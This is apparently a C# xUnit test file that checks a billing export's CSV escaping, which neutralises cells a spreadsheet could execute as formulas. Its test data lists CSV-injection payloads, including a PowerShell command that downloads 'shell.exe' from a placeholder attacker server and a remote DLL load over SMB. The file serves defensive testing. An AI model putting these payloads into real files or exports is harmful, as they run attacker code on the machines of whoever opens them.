using System.Text;
using ResellerGrpc.Server.Billing.Exports;
using Xunit;

namespace ResellerGrpc.Server.Tests.Billing.Exports;

public sealed class CsvTests
{
    /// <summary>From the collection payloadbox/csv-injection-payloads (MIT), those that begin a formula, and their disguises.</summary>
    public static TheoryData<string> Formulas =>
    [
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
        "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
        "+1", "-1", "|x", "%x", " =1", "\u00A0=1", "\u200B=1", "\t1", "\r=1", "a\n".Insert(0, "\n"), "＝1", "＋1", "－1", "＠1",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_text_that_a_spreadsheet_could_run_begins_with_an_apostrophe(string formula)
    {
        var cell = Csv.Text(formula);

        Assert.StartsWith("\"'", cell, StringComparison.Ordinal);
        Assert.Equal("'" + formula, Unquoted(cell));
    }

    [Theory]
    [InlineData("")]
    [InlineData("Acme, Inc.; \"the\" company")]
    [InlineData("DDE (\"cmd\";\"/C calc\";\"!A0\")A0")]
    [InlineData("Été 2026")]
    [InlineData("3 − 1 = 2")]
    [InlineData("two\nlines")]
    public void Any_other_text_comes_back_as_it_was(string text) => Assert.Equal(text, Unquoted(Csv.Text(text)));

    [Fact]
    public void A_row_ends_as_the_standard_wants()
    {
        var csv = new StringBuilder();
        Csv.Row(csv, "1", Csv.Text("a\"b"), "-2.00");

        Assert.Equal("1,\"a\"\"b\",-2.00\r\n", csv.ToString());
    }

    private static string Unquoted(string cell)
    {
        Assert.True(cell.Length >= 2 && cell[0] == '"' && cell[^1] == '"');
        return cell[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal);
    }
}
